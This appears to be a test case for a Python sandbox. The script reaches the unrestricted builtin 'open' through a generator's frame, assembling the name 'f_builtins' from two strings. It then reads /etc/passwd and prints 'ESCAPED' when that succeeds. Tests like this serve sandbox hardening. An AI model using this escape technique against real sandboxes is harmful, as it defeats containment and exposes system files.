# tries: statistics.mode hands out what a reader read in its frame
# class: lazy
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import operator
import statistics

use(pick(statistics.mode(map(operator.attrgetter("gi_frame"), [(x for x in ())]))))
